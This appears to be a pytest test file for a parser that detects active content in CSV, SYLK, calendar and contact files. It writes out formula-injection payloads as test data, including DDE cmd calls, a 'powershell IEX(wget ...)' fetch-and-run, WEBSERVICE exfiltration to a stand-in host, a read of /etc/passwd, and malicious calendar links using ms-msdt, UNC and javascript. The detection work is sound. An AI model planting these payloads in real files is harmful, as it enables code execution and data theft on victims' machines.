"""Tables and cards: what acts in a spreadsheet or calendar program is found, however it is written."""

import pytest

from tests.workers.inspection.parsers.recorder import codes, examined
from workers.inspection.parsers import text

CSV, ICS, VCF = "text/csv", "text/calendar", "text/vcard"


@pytest.mark.parametrize(
    "cell",
    [
        "=" + "1*" * 10_000 + "cmd|'/c calc'!A1",
        "=         C    m D       |        '/        c       c  al  c      .  e      x       e  '   !   A",
        "=cmd|'/c powershell IEX(wget x)'!_xlbgnm.A1",
        "\"=\ncmd|'/c calc'!A1\"",
        "\"=cmd|'/c\ncalc'!A1\"",
        "=MSEXCEL|calc!A1",
        '=WEBDIENST("http://x.example/"&A1)',
        '=SERVICEWEB("http://x.example/"&A1)',
        "='file:///etc/passwd'#$passwd.A1",
        "='\\\\server\\share\\[x.xlsx]Sheet1'!A1",
        "=SUM('http://x.example/[x.xlsx]Sheet1'!A1)",
        '=IF(A1=";",CALL("kernel32","WinExec","JCJ","calc",0),1)',
        '=LIEN_HYPERTEXTE("http://x.example/"&A1;"x")',
        "=cmd|'/c calc|more'!A1",
        "=cmd|'/c ''calc'''!A1",
        "=cmd|'/c " + "a" * 5000 + "'!A1",
        "=cmd\uff5c'/c calc'\uff01A1",
        "x^=cmd|'/c calc'!A1",
        "=\\\\server\\share\\[x.xlsx]Sheet1!A1",
        '=_xlfn._xlws.WEBSERVICE("http://x.example")',
    ],
)
def test_a_cell_that_acts_is_found_in_any_spelling(cell: str) -> None:
    assert codes(text, f"a\tb\nanna\t{cell}\tx\n".encode(), CSV) == ["active_formula"]


@pytest.mark.parametrize("first", ["sep=^", "\ufeffSEP=^ ", '"sep=^"'])
@pytest.mark.parametrize("cell", ["=cmd|calc!A1", '=WEBSERVICE("http://x.example")', '"=HYPERLINK(A1)"'])
def test_a_table_may_give_its_delimiter(first: str, cell: str) -> None:
    assert codes(text, f"{first}\r\na^{cell}\r\n".encode(), CSV) == ["active_formula"]
    assert codes(text, f"{first}\r\na^-5^=A1+B1\r\n".encode(), CSV) == []


def test_a_long_cell_across_two_pieces_is_found() -> None:
    body = b"a,b\n" * 258_000 + b"anna,=" + b"1*" * 10_000 + b"cmd|'/c calc'!A1\n"
    assert len(body) > 1024 * 1024 > body.index(b"=")
    assert codes(text, body, CSV) == ["active_formula"]


@pytest.mark.parametrize(
    "body",
    [
        "ID;Preis;Name\n1;2,50;Apfel\n",
        "ID;Produkt;C;F\n1;C;F;P\nC;12;a\n",
        "a|b|c\n2020|-5|Great!Thanks\n-3|yes!no|x\n",
        "=A1+B1,text (with brackets),a|b!c\n",
        "a;-5;please call (me)\n=A1;2;run (fast)\n",
        "a,b\n- see (http://x.example/),@user foo(https://x.example)\n",
        'a;=LIEN_HYPERTEXTE("https://x.example/";"b")\n',
        'a,"=HYPERLINK(""https://x.example/a?b=1&c=2"",A1)"\n',
        "it's|'quoted'|a!\n",
        "path\n'C:\\a b'!x\n",
        "ID\nC;Karl\nC,1\n",
        "sep=;\na;-5;b|c!d\n",
        "a - b,it's|x\n=A1,\\\\server\\share\n",
    ],
)
def test_tables_that_look_alike_pass(body: str) -> None:
    assert codes(text, body.encode(), CSV) == []


def test_sylk_is_found_by_its_records_wherever_they_are() -> None:
    cells = b'C;Y1;X1;K0;EEXEC("calc")\r\nE\r\n'
    assert codes(text, b"ID;PWXL;N;E\r\n", "text/plain") == ["active_formula"]
    assert codes(text, b"ID;P\r\n" + cells, CSV) == ["active_formula"]
    assert codes(text, b"\r\nID;E;PX\r\n" + b"P;PGeneral\r\n" * 100_000 + cells, CSV) == ["active_formula"]
    assert codes(text, b"x\r\nID;P\r\n" + cells, CSV) == []


@pytest.mark.without_coverage
def test_a_large_table_of_negative_numbers_takes_no_time() -> None:
    assert codes(text, b"-1.5,-2.25,+3e5,=A1\n" * 400_000, CSV) == []


@pytest.mark.parametrize(
    ("line", "found"),
    [
        ('ATTACH;X="a:b":file://server/x', ["unsafe_link"]),
        ("ATTACH:\\\\server\\share\\x.wav", ["unsafe_link"]),
        ('DESCRIPTION;ALTREP="file://server/x":foo', ["unsafe_link"]),
        ("URL;ENCODING=QUOTED-PRINTABLE:file=3A//server/x", ["unsafe_link"]),
        ("URL;ENCODING=QUOTED-PRINTABLE:fi=\r\nle://server/x", ["unsafe_link"]),
        ("URL:javascript:1", ["unsafe_link"]),
        ("ATTACH:fi\r le://server/x", ["unsafe_link"]),
        ("ATTACH :file://server/x", ["unsafe_link"]),
        ('ORGANIZER;DIR="file://server/x":mailto:a@x.example', ["unsafe_link"]),
        ("AALARM:19960101T000000;;;file:///c:/x.exe", ["unsafe_link"]),
        ("PALARM:19960101T000000;;;x", ["active_action"]),
        ("X-WR-LINK:file://server/x", ["unsafe_link"]),
        ("X-MEETING:ms-msdt:/id", ["unsafe_link"]),
        ("LOCATION:\\\\server\\share", ["unsafe_link"]),
        ("IMPP:javascript:alert(1)", ["unsafe_link"]),
        ("TEL;VALUE=uri:ms-msdt:/x", ["unsafe_link"]),
        ("RELATED:file:///c:/x", ["unsafe_link"]),
        ("URL:http.\\a.cpl", ["unsafe_link"]),
        ("URL:..\\x\\a.cpl", ["unsafe_link"]),
        ("URL:http\\://x.example/a\\,b", []),
        ("IMPP;X-SERVICE-TYPE=AIM:aim:anna", []),
        ("X-SOCIALPROFILE;type=twitter:https://x.example/anna", []),
        ("DESCRIPTION:file: report.pdf\\nms-word: see", []),
        ("LOCATION:Room 5\\, first floor", []),
        ("DTSTART;TZID=Europe/Berlin:20260101T100000", []),
        ("N;QUOTED-PRINTABLE:a=\r\n=\r\nb\r\nURL:file://x", ["unsafe_link"]),
        ("URL://x.example/a", []),
        ('X-ALT-DESC;FMTTYPE=text/html:<p onclick="a">x\\, y', ["script"]),
        ('X-ALT-DESC;FMTTYPE=text/html:<p><a href="https://x.example">x\\, y</a>', []),
        ('DESCRIPTION;ALTREP="cid:part1@x":foo', []),
        ("URL:localhost:3000/x", []),
        ("URL:www.example.com:8080", []),
        ("URL:message://%3Cabc%3E", []),
        ("ATTACH;FMTTYPE=application/pdf:https://x.example/a.pdf", []),
    ],
)  # fmt: skip
def test_addresses_in_calendars_are_found_in_any_spelling(line: str, found: list[str]) -> None:
    assert codes(text, f"BEGIN:VCALENDAR\r\n{line}\r\nEND:VCALENDAR\r\n".encode(), ICS) == found


def test_data_in_an_address_are_a_member_in_either_encoding() -> None:
    for line in ("ATTACH:data:text/html,%3Cscript>", "IMAGE;VALUE=URI:data:text/html;base64,PHNjcmlwdD4="):
        body = f"BEGIN:VCALENDAR\r\n{line}\r\nEND:VCALENDAR\r\n".encode()
        assert [content for _, content in examined(text, body, ICS).members] == [b"<script>"]


def test_a_picture_without_padding_is_a_member() -> None:
    body = b"BEGIN:VCARD\r\nN;QUOTED-PRINTABLE:=41\r\nPHOTO;BASE64;JPEG:/9j/4AAQ\r\n SkZJRg=\r\nEND:VCARD\r\n"
    assert examined(text, body, VCF).members == [("photo 2", b"\xff\xd8\xff\xe0\x00\x10JFIF")]
